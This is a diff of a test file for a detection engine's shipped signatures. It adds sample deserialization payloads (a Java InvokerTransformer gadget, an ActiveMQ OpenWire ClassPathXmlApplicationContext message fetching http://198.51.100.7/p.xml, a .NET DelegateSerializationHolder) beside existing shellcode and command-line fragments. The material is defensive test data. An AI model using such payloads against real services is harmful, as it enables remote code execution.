@@ -68,6 +68,23 @@ describe('shipped signatures', () => {
     ['shellcode in capital letters', text('VTX30VX4AP0A3HH0A00ABAABTAAQ2AB2BB0BBXP8ACJJI'), '9100016'],
     ['shellcode of Linux', text('\x31\xc0\x50h//shh/bin\x89\xe3\x50'), '9100017'],
     ['a command line', text(COMMAND), '9100020'],
+    [
+      'a Java object with a transformer',
+      text('t3 12\xac\xed\0\x05sr\0:org.apache.commons.collections.functors.InvokerTransformer'),
+      '9100030',
+    ],
+    [
+      'a class of Spring in OpenWire',
+      text(
+        '\0\0\0\x77\x1f\0\0\0\x01\x01\x01\0Borg.springframework.context.support.ClassPathXmlApplicationContext\x01\0\x1fhttp://198.51.100.7/p.xml',
+      ),
+      '9100031',
+    ],
+    [
+      'a .NET object with a delegate',
+      text('\0\x01\0\0\0\xff\xff\xff\xff\x01\0\0\0\0\0\0\0\x0c System.DelegateSerializationHolder'),
+      '9100032',
+    ],
     ['a command line in UTF-16', text(`\x20\0\0\0${wide('cmd.exe /c dir')}\0\0`), '9100020'],
     ['a PowerShell command line', text('\x01\0\0\0powershell.exe -enc SQBFAFgA'), '9100021'],
     ['a command line of Unix', text('\x01\0\0\0/bin/sh -c id'), '9100022'],
